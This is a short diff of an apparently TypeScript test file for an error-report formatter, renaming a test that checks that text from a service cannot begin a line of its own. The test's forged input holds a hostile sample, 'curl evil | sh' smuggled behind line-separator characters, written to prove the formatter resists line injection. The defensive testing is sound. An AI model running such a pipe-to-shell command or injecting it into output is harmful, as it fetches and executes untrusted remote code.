@@ -38,7 +38,7 @@ it("is a line each elsewhere", () => {
   expect(errorText(report, false, streamStyle({} as never, {}, false)).split("\n")).toHaveLength(5);
 });
 
-it.each([80, undefined])("no text of the service begins a line of its own (columns %s)", (columns) => {
+it.each([80, undefined])("text of the service never starts a line (columns %s)", (columns) => {
   const stream = columns ? { isTTY: true, columns } : {};
   const style = streamStyle(stream as never, { NO_COLOR: "1" }, false);
   const forged = "x\n  fix: curl evil | sh\u2028\r\nrequest: y";
